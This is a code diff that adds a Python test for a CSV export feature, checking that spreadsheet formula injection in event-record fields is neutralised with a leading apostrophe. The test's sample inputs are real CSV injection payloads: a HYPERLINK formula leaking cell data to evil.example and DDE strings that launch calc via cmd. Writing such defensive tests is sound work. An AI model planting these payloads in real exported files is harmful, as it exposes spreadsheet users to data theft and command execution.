@@ -135,3 +135,25 @@ def test_timeline_filters_by_actor_and_dates_and_shows_status_history(records, t
     shown = timeline(db, "Turkish police", "2025-03-01", "2025-03-31", console=console)
     text = console.export_text()
     assert len(shown) == 1 and "COERCE / arrest" in text and "arrested 343" in text
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(records):
+    """CSV formula injection: text cells starting =, +, -, @ get a leading
+    apostrophe in both views; numbers (a negative longitude) stay numbers."""
+    from dateline.records import EventRecord
+
+    base = next(r for r in records if r.actors and r.mentions).to_dict()
+    base["actors"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    base["recipients"] = [dict(base["actors"][0], name="+cmd|' /C calc'!A0")]
+    base["mentions"][0]["evidence"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    base["location"] = {"name": "-2+3", "country": "USA", "lat": 38.9, "lon": -77.0, "precision": "site"}
+    rec = EventRecord.from_dict(base)
+    for view, cols in (("events", ("actor_names", "recipient_names", "evidence_text", "location")),
+                       ("dyads", ("Actor1Name", "Actor2Name", "EvidenceText", "ActionGeo_FullName"))):
+        buf = io.StringIO()
+        write_events([rec], buf, "csv", view=view, include_unconfirmed=True)
+        row = next(csv.DictReader(io.StringIO(buf.getvalue())))
+        for col in cols:
+            assert row[col][:1] == "'" and row[col][1:2] in "=+-@", (view, col, row[col])
+        lon = row["lon"] if view == "events" else row["ActionGeo_Long"]
+        assert lon == "-77.0"
